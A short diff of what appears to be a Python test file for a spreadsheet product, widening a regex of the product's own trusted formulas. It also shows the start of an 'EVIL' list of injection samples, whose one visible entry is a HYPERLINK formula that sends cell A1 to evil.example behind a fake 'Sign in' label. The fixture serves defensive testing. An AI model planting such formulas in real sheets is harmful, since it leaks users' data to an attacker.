@@ -15,7 +15,9 @@ from tests.world import World, wait_for
 _COUNT = r"COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+"
 _STATUS = r";Brightsheet_Status;[A-Z]+\$1"
 _IN_STEP = r'IF\(NOW\(\)-[A-Z]+1>\d+/1440;"Not in step since";"In step at"\)'
-COUNTED = re.compile(rf'={_COUNT}(\)|{_STATUS}\)\+{_COUNT}{_STATUS}&":\*"\))|={_IN_STEP}')
+COUNTED = re.compile(
+    rf'={_COUNT}(\)|{_STATUS}\)\+{_COUNT}{_STATUS}&":\*"\))|={_IN_STEP}|=TODAY\(\)-\d+'
+)
 """The product's own formulas."""
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
